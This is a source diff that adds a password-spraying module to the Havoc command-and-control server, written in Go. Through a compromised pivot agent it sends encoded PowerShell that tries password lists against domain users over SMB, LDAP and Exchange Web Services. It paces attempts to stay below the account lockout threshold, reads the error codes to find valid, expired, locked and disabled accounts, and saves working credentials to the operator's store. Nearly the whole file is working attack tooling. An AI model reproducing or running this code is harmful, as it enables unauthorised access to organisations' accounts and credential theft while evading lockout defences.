@@ -0,0 +1,743 @@
+package server
+
+import (
+	"encoding/base64"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"regexp"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+	"unicode/utf16"
+
+	"Havoc/pkg/agent"
+	"Havoc/pkg/db"
+	"Havoc/pkg/eventbus"
+	"Havoc/pkg/logger"
+)
+
+const (
+	// sprays kept for their results. the oldest finished one is dropped
+	SPRAY_KEEP = 20
+	// attempts kept below the lockout threshold if the operator doesn't say
+	SPRAY_MARGIN = 2
+	// delay between two attempts if the operator doesn't say
+	SPRAY_DELAY = 2 * time.Second
+	// added to the observation window against clock skew between the hosts
+	SPRAY_WINDOW_SLACK = time.Minute
+	// time the agent has to answer an attempt on top of its sleep
+	SPRAY_TIMEOUT = 2 * time.Minute
+	// output of an attempt kept for its result
+	SPRAY_OUTPUT_LIMIT = 4 * 1024
+)
+
+const (
+	SPRAY_RUNNING   = "running"
+	SPRAY_PAUSED    = "paused"
+	SPRAY_COMPLETE  = "complete"
+	SPRAY_CANCELLED = "cancelled"
+)
+
+// results of an attempt
+const (
+	SPRAY_VALID    = "valid"
+	SPRAY_EXPIRED  = "expired"
+	SPRAY_INVALID  = "invalid"
+	SPRAY_LOCKED   = "locked"
+	SPRAY_DISABLED = "disabled"
+	SPRAY_ERROR    = "error"
+	SPRAY_PENDING  = "pending"
+)
+
+var sprayTarget = regexp.MustCompile(`^[A-Za-z0-9._-]+$`)
+
+// sprayProtocol
+// how an attempt gets made from the pivot agent and what its output means.
+type sprayProtocol struct {
+	Name        string
+	Description string
+
+	// powershell trying the credential against the target. the arguments
+	// are quoted for single quoted strings already
+	Script func(Domain, Username, Password, Target string) string
+
+	// case insensitive parts of the output and the result they mean. the
+	// first match wins, no match is an error
+	Results [][2]string
+}
+
+// protocols a spray can try the credentials with
+var sprayProtocols = map[string]*sprayProtocol{
+	"smb": {
+		Name:        "smb",
+		Description: "maps the IPC$ share of the target with net use",
+		Script: func(Domain, Username, Password, Target string) string {
+			return fmt.Sprintf(`$o = net use '\\%[4]v\IPC$' /user:'%[1]v\%[2]v' '%[3]v' 2>&1 | Out-String; if ($LASTEXITCODE -eq 0) { net use '\\%[4]v\IPC$' /delete /y *> $null; 'SPRAY-OK' } else { 'SPRAY-FAIL ' + $o }`, Domain, Username, Password, Target)
+		},
+		Results: [][2]string{
+			{"SPRAY-OK", SPRAY_VALID},
+			{"error 1909", SPRAY_LOCKED},
+			{"error 1330", SPRAY_EXPIRED},
+			{"error 1907", SPRAY_EXPIRED},
+			{"error 1331", SPRAY_DISABLED},
+			{"error 1326", SPRAY_INVALID},
+		},
+	},
+
+	"ldap": {
+		Name:        "ldap",
+		Description: "binds to the directory of the domain controller",
+		Script: func(Domain, Username, Password, Target string) string {
+			return fmt.Sprintf(`try { $e = New-Object DirectoryServices.DirectoryEntry('LDAP://%[4]v', '%[1]v\%[2]v', '%[3]v'); if ($null -ne $e.nativeGuid) { 'SPRAY-OK' } } catch { 'SPRAY-FAIL ' + $_.Exception.Message }`, Domain, Username, Password, Target)
+		},
+		Results: [][2]string{
+			{"SPRAY-OK", SPRAY_VALID},
+			{"locked out", SPRAY_LOCKED},
+			{"password has expired", SPRAY_EXPIRED},
+			{"must be changed", SPRAY_EXPIRED},
+			{"disabled", SPRAY_DISABLED},
+			{"password is incorrect", SPRAY_INVALID},
+			{"bad password", SPRAY_INVALID},
+		},
+	},
+
+	"owa": {
+		Name:        "owa",
+		Description: "authenticates to the exchange web services of the target (ntlm). lockouts can't be told apart from wrong passwords",
+		Script: func(Domain, Username, Password, Target string) string {
+			return fmt.Sprintf(`[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }; try { $c = New-Object Management.Automation.PSCredential('%[1]v\%[2]v', (ConvertTo-SecureString '%[3]v' -AsPlainText -Force)); Invoke-WebRequest -Uri 'https://%[4]v/EWS/Exchange.asmx' -Credential $c -UseBasicParsing | Out-Null; 'SPRAY-OK' } catch { 'SPRAY-FAIL ' + $_.Exception.Message }`, Domain, Username, Password, Target)
+		},
+		Results: [][2]string{
+			{"SPRAY-OK", SPRAY_VALID},
+			{"(401)", SPRAY_INVALID},
+		},
+	},
+}
+
+// SprayProtocols
+// returns the protocols a spray can use.
+func SprayProtocols() []map[string]any {
+	var Protocols []map[string]any
+
+	for _, Protocol := range sprayProtocols {
+		Protocols = append(Protocols, map[string]any{
+			"Name":        Protocol.Name,
+			"Description": Protocol.Description,
+		})
+	}
+
+	sort.Slice(Protocols, func(i, j int) bool {
+		return Protocols[i]["Name"].(string) < Protocols[j]["Name"].(string)
+	})
+
+	return Protocols
+}
+
+// SprayStart
+// sprays the passwords against the users through the pivot agent. Users,
+// Passwords and Targets are lists of a line each (users and targets may
+// be comma separated too). Every password is tried against every user
+// before the next one, the targets take turns. Threshold and Window are
+// the lockout policy of the domain: at most Threshold - Margin attempts
+// per user are made within the Window. Delay waits between attempts.
+func (t *Teamserver) SprayStart(User string, Info map[string]any) (*Spray, error) {
+	var (
+		AgentID, _  = Info["AgentID"].(string)
+		Protocol, _ = Info["Protocol"].(string)
+		Spray       = &Spray{
+			ID:        randomID(),
+			Status:    SPRAY_RUNNING,
+			User:      User,
+			Workspace: t.UserWorkspace(User),
+			Time:      time.Now().Format("02/01/2006 15:04:05"),
+			Margin:    SPRAY_MARGIN,
+			delay:     SPRAY_DELAY,
+			history:   make(map[string][]time.Time),
+			skip:      make(map[string]bool),
+			running:   make(chan struct{}, 1),
+			Valid:     []string{},
+		}
+		Agent = t.Agents.Get(AgentID)
+		err   error
+	)
+
+	if Agent == nil || !Agent.Active || Agent.Info == nil || !workspaceVisible(Spray.Workspace, Agent.Info.Workspace) {
+		return nil, errors.New("agent " + AgentID + " not found or dead")
+	}
+
+	Spray.AgentID = Agent.NameID
+
+	if _, ok := sprayProtocols[strings.ToLower(Protocol)]; !ok {
+		return nil, errors.New("unknown spray protocol: " + Protocol)
+	}
+
+	Spray.Protocol = strings.ToLower(Protocol)
+	Spray.Domain, _ = Info["Domain"].(string)
+
+	if len(Spray.Domain) == 0 {
+		Spray.Domain = Agent.Info.DomainName
+	}
+
+	if Spray.Targets = sprayList(Info["Targets"], true); len(Spray.Targets) == 0 {
+		return nil, errors.New("spray requires a target")
+	}
+
+	for _, Target := range Spray.Targets {
+		if !sprayTarget.MatchString(Target) {
+			return nil, errors.New("invalid target: " + Target)
+		}
+	}
+
+	if Spray.Users = sprayList(Info["Users"], true); len(Spray.Users) == 0 {
+		return nil, errors.New("spray requires a user")
+	}
+
+	/* passwords may contain commas */
+	if Spray.passwords = sprayList(Info["Passwords"], false); len(Spray.passwords) == 0 {
+		return nil, errors.New("spray requires a password")
+	}
+
+	Spray.Passwords = len(Spray.passwords)
+
+	if Spray.Threshold, err = sprayInt(Info["Threshold"]); err != nil || Spray.Threshold < 1 {
+		return nil, errors.New("spray requires the lockout threshold of the domain")
+	}
+
+	if Value, _ := Info["Margin"].(string); len(Value) > 0 {
+		if Spray.Margin, err = strconv.Atoi(Value); err != nil || Spray.Margin < 0 {
+			return nil, errors.New("invalid margin: " + Value)
+		}
+	}
+
+	if Spray.Threshold-Spray.Margin < 1 {
+		return nil, fmt.Errorf("a lockout threshold of %v with a margin of %v leaves no attempt", Spray.Threshold, Spray.Margin)
+	}
+
+	Spray.Window, _ = Info["Window"].(string)
+
+	if Spray.window, err = time.ParseDuration(Spray.Window); err != nil || Spray.window <= 0 {
+		return nil, errors.New("spray requires the lockout observation window of the domain (eg: 30m)")
+	}
+
+	if Spray.Delay, _ = Info["Delay"].(string); len(Spray.Delay) > 0 {
+		if Spray.delay, err = time.ParseDuration(Spray.Delay); err != nil || Spray.delay < 0 {
+			return nil, errors.New("invalid delay: " + Spray.Delay)
+		}
+	} else {
+		Spray.Delay = SPRAY_DELAY.String()
+	}
+
+	if err = t.BlocklistCheck(User, Agent.NameID, "spray "+Spray.Protocol, "spray-"+Spray.Protocol); err != nil {
+		return nil, err
+	}
+
+	t.Sprays.Lock()
+	t.Sprays.Jobs = append(t.Sprays.Jobs, Spray)
+
+	/* drops the oldest finished spray */
+	if len(t.Sprays.Jobs) > SPRAY_KEEP {
+		for i, Job := range t.Sprays.Jobs {
+			if Job.Status == SPRAY_COMPLETE || Job.Status == SPRAY_CANCELLED {
+				t.Sprays.Jobs = append(t.Sprays.Jobs[:i], t.Sprays.Jobs[i+1:]...)
+				break
+			}
+		}
+	}
+
+	Spray.cancel = make(chan struct{})
+	t.Sprays.Unlock()
+
+	logger.Info(fmt.Sprintf("Spray %v of %v: %v passwords against %v users of %v over %v via agent %v [threshold: %v, margin: %v, window: %v]", Spray.ID, User, Spray.Passwords, len(Spray.Users), Spray.Domain, Spray.Protocol, Spray.AgentID, Spray.Threshold, Spray.Margin, Spray.Window))
+
+	go t.sprayRun(Spray, Spray.cancel)
+
+	return Spray, nil
+}
+
+// sprayList
+// splits a list of the request into its lines (and commas).
+func sprayList(Value any, Commas bool) []string {
+	var (
+		List    []string
+		Entries []string
+	)
+
+	switch Value := Value.(type) {
+
+	case string:
+		Entries = strings.Split(Value, "\n")
+
+	case []any:
+		for _, Entry := range Value {
+			if Entry, ok := Entry.(string); ok {
+				Entries = append(Entries, Entry)
+			}
+		}
+
+	}
+
+	for _, Entry := range Entries {
+		var Parts = []string{Entry}
+
+		if Commas {
+			Parts = strings.Split(Entry, ",")
+		}
+
+		for _, Part := range Parts {
+			if Part = strings.TrimRight(Part, "\r"); len(strings.TrimSpace(Part)) > 0 {
+				if Commas {
+					Part = strings.TrimSpace(Part)
+				}
+
+				List = append(List, Part)
+			}
+		}
+	}
+
+	return List
+}
+
+func sprayInt(Value any) (int, error) {
+	switch Value := Value.(type) {
+
+	case string:
+		return strconv.Atoi(Value)
+
+	case float64:
+		return int(Value), nil
+
+	}
+
+	return 0, errors.New("not a number")
+}
+
+// sprayRun
+// makes the attempts of the spray one after another till every one has
+// been made, the spray gets paused or cancelled.
+func (t *Teamserver) sprayRun(Spray *Spray, Cancel chan struct{}) {
+	var Allowed = Spray.Threshold - Spray.Margin
+
+	Spray.running <- struct{}{}
+	defer func() { <-Spray.running }()
+
+	for {
+		select {
+		case <-Cancel:
+			return
+		default:
+		}
+
+		t.Sprays.Lock()
+		if Spray.next >= len(Spray.passwords)*len(Spray.Users) {
+			Spray.Status = SPRAY_COMPLETE
+			t.Sprays.Unlock()
+
+			logger.Info(fmt.Sprintf("Spray %v complete: %v attempts, %v valid", Spray.ID, Spray.Tried, len(Spray.Valid)))
+			t.sprayConsole(Spray, "Good", fmt.Sprintf("Spray %v complete: %v attempts, %v valid credentials", Spray.ID, Spray.Tried, len(Spray.Valid)))
+			return
+		}
+
+		var (
+			Password = Spray.passwords[Spray.next/len(Spray.Users)]
+			Username = Spray.Users[Spray.next%len(Spray.Users)]
+			Target   = Spray.Targets[Spray.Tried%len(Spray.Targets)]
+			Skip     = Spray.skip[strings.ToLower(Username)]
+			Wait     = sprayWait(Spray.history[strings.ToLower(Username)], Allowed, Spray.window+SPRAY_WINDOW_SLACK, time.Now())
+		)
+		t.Sprays.Unlock()
+
+		if Skip {
+			t.Sprays.Lock()
+			Spray.next++
+			t.Sprays.Unlock()
+			continue
+		}
+
+		/* the user has no attempt left within the observation window */
+		if Wait > 0 {
+			logger.Debug(fmt.Sprintf("Spray %v waits %v for the observation window of %v", Spray.ID, Wait.Round(time.Second), Username))
+
+			select {
+			case <-time.After(Wait):
+				continue
+			case <-Cancel:
+				return
+			}
+		}
+
+		if Reason := t.sprayAttempt(Spray, Username, Password, Target); len(Reason) > 0 {
+			t.sprayPause(Spray, Reason)
+			return
+		}
+
+		select {
+		case <-time.After(Spray.delay):
+		case <-Cancel:
+			return
+		}
+	}
+}
+
+// sprayWait
+// returns how long the user has to wait till it has an attempt left
+// within the observation window.
+func sprayWait(History []time.Time, Allowed int, Window time.Duration, Now time.Time) time.Duration {
+	var Recent []time.Time
+
+	for _, Attempt := range History {
+		if Now.Sub(Attempt) < Window {
+			Recent = append(Recent, Attempt)
+		}
+	}
+
+	if len(Recent) < Allowed {
+		return 0
+	}
+
+	/* the attempt that has to leave the window first */
+	return Recent[len(Recent)-Allowed].Add(Window).Sub(Now)
+}
+
+// sprayAttempt
+// tries the password of the user against the target through the pivot
+// agent and waits for the result. Returns why the spray has to pause, if
+// it has to.
+func (t *Teamserver) sprayAttempt(Spray *Spray, Username, Password, Target string) string {
+	var (
+		Agent    = t.Agents.Get(Spray.AgentID)
+		Protocol = sprayProtocols[Spray.Protocol]
+		Attempt  = &SprayAttempt{
+			Username: Username,
+			Password: Password,
+			Target:   Target,
+			TaskID:   strings.ToUpper(randomID()),
+			Result:   SPRAY_PENDING,
+			Time:     time.Now().Format("02/01/2006 15:04:05"),
+			done:     make(chan struct{}),
+		}
+		Domain  = Spray.Domain
+		Timeout = SPRAY_TIMEOUT
+	)
+
+	if Agent == nil || !Agent.Active || Agent.Info == nil {
+		return "agent " + Spray.AgentID + " is dead"
+	}
+
+	/* DOMAIN\user overrides the domain of the spray */
+	if Name, User, ok := strings.Cut(Username, "\\"); ok {
+		Domain, Username = Name, User
+	}
+
+	var Quote = func(Value string) string {
+		return strings.ReplaceAll(Value, "'", "''")
+	}
+
+	var Script = Protocol.Script(Quote(Domain), Quote(Username), Quote(Password), Quote(Target))
+
+	t.Sprays.Lock()
+	Spray.Attempts = append(Spray.Attempts, Attempt)
+	Spray.Tried++
+	Spray.history[strings.ToLower(Attempt.Username)] = append(Spray.history[strings.ToLower(Attempt.Username)], time.Now())
+	t.Sprays.Tasks[Attempt.TaskID] = Attempt
+	t.Sprays.Unlock()
+
+	/* the password only travels encoded, the command line names the attempt */
+	var Status = t.TaskQueue(Spray.User, Agent, Attempt.TaskID, map[string]any{
+		"CommandID":   strconv.Itoa(agent.COMMAND_PROC),
+		"CommandLine": fmt.Sprintf("spray %v %v\\%v @ %v", Spray.Protocol, Domain, Username, Target),
+		"ProcCommand": strconv.Itoa(agent.DEMON_COMMAND_PROC_CREATE),
+		"Args":        `0;FALSE;TRUE;c:\windows\system32\cmd.exe;` + base64.StdEncoding.EncodeToString([]byte("/c powershell -nop -noni -enc "+sprayEncode(Script))),
+	})
+
+	if Status != TASK_QUEUED {
+		t.sprayResult(Attempt, SPRAY_ERROR)
+		return "attempt of " + Attempt.Username + " got " + Status
+	}
+
+	if Agent.Info.SleepDelay > 0 {
+		Timeout += 2 * time.Duration(Agent.Info.SleepDelay) * time.Second
+	}
+
+	select {
+	case <-Attempt.done:
+	case <-time.After(Timeout):
+		t.sprayResult(Attempt, SPRAY_ERROR)
+		return "agent " + Spray.AgentID + " didn't answer the attempt of " + Attempt.Username
+	}
+
+	t.Sprays.Lock()
+	var Output = Attempt.Output
+	t.Sprays.Unlock()
+
+	var Result = SPRAY_ERROR
+
+	for _, Match := range Protocol.Results {
+		if strings.Contains(strings.ToLower(Output), strings.ToLower(Match[0])) {
+			Result = Match[1]
+			break
+		}
+	}
+
+	t.sprayResult(Attempt, Result)
+
+	switch Result {
+
+	case SPRAY_VALID, SPRAY_EXPIRED:
+		t.sprayValid(Spray, Domain, Username, Password, Target, Result)
+
+	case SPRAY_DISABLED:
+		t.Sprays.Lock()
+		Spray.skip[strings.ToLower(Attempt.Username)] = true
+		t.Sprays.Unlock()
+
+	case SPRAY_LOCKED:
+		t.Sprays.Lock()
+		Spray.skip[strings.ToLower(Attempt.Username)] = true
+		t.Sprays.Unlock()
+
+		/* the policy is stricter than the operator thought or someone else is locking the account */
+		return "account " + Attempt.Username + " is locked out"
+
+	}
+
+	t.Sprays.Lock()
+	Spray.next++
+	t.Sprays.Unlock()
+
+	return ""
+}
+
+// sprayEncode
+// encodes the script for powershell -EncodedCommand (utf-16le), so
+// the password never has to be quoted for cmd.
+func sprayEncode(Script string) string {
+	var Encoded []byte
+
+	for _, Unit := range utf16.Encode([]rune(Script)) {
+		Encoded = binary.LittleEndian.AppendUint16(Encoded, Unit)
+	}
+
+	return base64.StdEncoding.EncodeToString(Encoded)
+}
+
+func (t *Teamserver) sprayResult(Attempt *SprayAttempt, Result string) {
+	t.Sprays.Lock()
+	Attempt.Result = Result
+	delete(t.Sprays.Tasks, Attempt.TaskID)
+	t.Sprays.Unlock()
+}
+
+// sprayValid
+// records the credential the spray found in the credential store.
+func (t *Teamserver) sprayValid(Spray *Spray, Domain, Username, Password, Target, Result string) {
+	var Credential = db.Credential{
+		Username:  Username,
+		Domain:    Domain,
+		Password:  Password,
+		Source:    fmt.Sprintf("spray %v %v via agent %v (%v)", Spray.Protocol, Target, Spray.AgentID, Spray.ID),
+		Workspace: workspaceOrDefault(Spray.Workspace),
+		User:      Spray.User,
+		Time:      time.Now().Format("02/01/2006 15:04:05"),
+	}
+	var err error
+
+	if Result == SPRAY_EXPIRED {
+		Credential.Source += " password expired"
+	}
+
+	t.Sprays.Lock()
+	Spray.Valid = append(Spray.Valid, Domain+"\\"+Username)
+	Spray.skip[strings.ToLower(Username)] = true
+	Spray.skip[strings.ToLower(Domain+"\\"+Username)] = true
+	t.Sprays.Unlock()
+
+	if Credential.ID, err = t.DB.CredentialAdd(Credential); err != nil {
+		logger.Error("Failed to add sprayed credential: " + err.Error())
+		return
+	}
+
+	logger.Good(fmt.Sprintf("Spray %v found a %v password of %v\\%v (credential %v)", Spray.ID, Result, Domain, Username, Credential.ID))
+	t.sprayConsole(Spray, "Good", fmt.Sprintf("Spray %v found a %v password of %v\\%v (credential %v)", Spray.ID, Result, Domain, Username, Credential.ID))
+
+	t.credentialPublish(Credential, Spray.AgentID)
+	t.credentialsBroadcast()
+}
+
+func (t *Teamserver) sprayPause(Spray *Spray, Reason string) {
+	t.Sprays.Lock()
+	if Spray.Status == SPRAY_RUNNING {
+		Spray.Status = SPRAY_PAUSED
+		Spray.Reason = Reason
+	}
+	t.Sprays.Unlock()
+
+	logger.Warn(fmt.Sprintf("Spray %v paused: %v", Spray.ID, Reason))
+	t.sprayConsole(Spray, "Error", fmt.Sprintf("Spray %v paused: %v", Spray.ID, Reason))
+}
+
+func (t *Teamserver) sprayConsole(Spray *Spray, Type, Message string) {
+	t.AgentConsole(Spray.AgentID, agent.HAVOC_CONSOLE_MESSAGE, map[string]string{
+		"Type":    Type,
+		"Message": Message,
+	})
+}
+
+// SprayOutput
+// adds the output the agent prints to the attempt it answers.
+func (t *Teamserver) SprayOutput(AgentID string, Output map[string]string) {
+	var Agent = t.Agents.Get(AgentID)
+
+	if Agent == nil {
+		return
+	}
+
+	var TaskID = Agent.Answering()
+
+	if len(TaskID) == 0 {
+		return
+	}
+
+	t.Sprays.Lock()
+	defer t.Sprays.Unlock()
+
+	Attempt, ok := t.Sprays.Tasks[TaskID]
+	if !ok || len(Attempt.Output) >= SPRAY_OUTPUT_LIMIT {
+		return
+	}
+
+	for _, Key := range []string{"Message", "Output"} {
+		if len(Output[Key]) > 0 {
+			Attempt.Output += strings.TrimRight(Output[Key], "\r\n") + "\n"
+		}
+	}
+
+	if len(Attempt.Output) >= SPRAY_OUTPUT_LIMIT {
+		Attempt.Output = Attempt.Output[:SPRAY_OUTPUT_LIMIT]
+	}
+}
+
+// sprayComplete
+// hands the output of the attempt of the event to its spray.
+func (t *Teamserver) sprayComplete(Event eventbus.Event) error {
+	var TaskID, _ = Event.Data["TaskID"].(string)
+
+	t.Sprays.Lock()
+	defer t.Sprays.Unlock()
+
+	if Attempt, ok := t.Sprays.Tasks[TaskID]; ok {
+		select {
+		case <-Attempt.done:
+		default:
+			close(Attempt.done)
+		}
+	}
+
+	return nil
+}
+
+// SprayList
+// returns the sprays of the workspace without their attempts.
+func (t *Teamserver) SprayList(Workspace string) []Spray {
+	var Sprays []Spray
+
+	t.Sprays.Lock()
+	defer t.Sprays.Unlock()
+
+	for _, Spray := range t.Sprays.Jobs {
+		if !workspaceVisible(Workspace, Spray.Workspace) {
+			continue
+		}
+
+		var Summary = *Spray
+
+		Summary.Attempts = nil
+		Summary.Valid = append([]string{}, Spray.Valid...)
+
+		Sprays = append(Sprays, Summary)
+	}
+
+	return Sprays
+}
+
+// SprayAttempts
+// returns the spray with the attempts it made.
+func (t *Teamserver) SprayAttempts(Workspace, ID string) (*Spray, error) {
+	t.Sprays.Lock()
+	defer t.Sprays.Unlock()
+
+	for _, Spray := range t.Sprays.Jobs {
+		if Spray.ID != ID || !workspaceVisible(Workspace, Spray.Workspace) {
+			continue
+		}
+
+		var Result = *Spray
+
+		Result.Valid = append([]string{}, Spray.Valid...)
+		Result.Attempts = nil
+
+		for _, Attempt := range Spray.Attempts {
+			var Copy = *Attempt
+
+			Result.Attempts = append(Result.Attempts, &Copy)
+		}
+
+		return &Result, nil
+	}
+
+	return nil, errors.New("spray " + ID + " not found")
+}
+
+// SprayControl
+// pauses, resumes or cancels the spray. A resumed spray goes on with the
+// attempt it stopped at, within the lockout policy of before.
+func (t *Teamserver) SprayControl(User, ID, Action string) error {
+	t.Sprays.Lock()
+	defer t.Sprays.Unlock()
+
+	for _, Spray := range t.Sprays.Jobs {
+		if Spray.ID != ID || !workspaceVisible(t.UserWorkspace(User), Spray.Workspace) {
+			continue
+		}
+
+		switch Action {
+
+		case SPRAY_PAUSED:
+			if Spray.Status != SPRAY_RUNNING {
+				return errors.New("spray " + ID + " isn't running")
+			}
+
+			close(Spray.cancel)
+			Spray.Status, Spray.Reason = SPRAY_PAUSED, "paused by "+User
+
+		case SPRAY_RUNNING:
+			if Spray.Status != SPRAY_PAUSED {
+				return errors.New("spray " + ID + " isn't paused")
+			}
+
+			Spray.Status, Spray.Reason = SPRAY_RUNNING, ""
+			Spray.cancel = make(chan struct{})
+
+			go t.sprayRun(Spray, Spray.cancel)
+
+		case SPRAY_CANCELLED:
+			if Spray.Status == SPRAY_COMPLETE || Spray.Status == SPRAY_CANCELLED {
+				return errors.New("spray " + ID + " is done already")
+			}
+
+			if Spray.Status == SPRAY_RUNNING {
+				close(Spray.cancel)
+			}
+
+			Spray.Status, Spray.Reason = SPRAY_CANCELLED, "cancelled by "+User
+
+		}
+
+		logger.Info(fmt.Sprintf("Spray %v %v by %v", ID, map[string]string{SPRAY_PAUSED: "paused", SPRAY_RUNNING: "resumed", SPRAY_CANCELLED: "cancelled"}[Action], User))
+
+		return nil
+	}
+
+	return errors.New("spray " + ID + " not found")
+}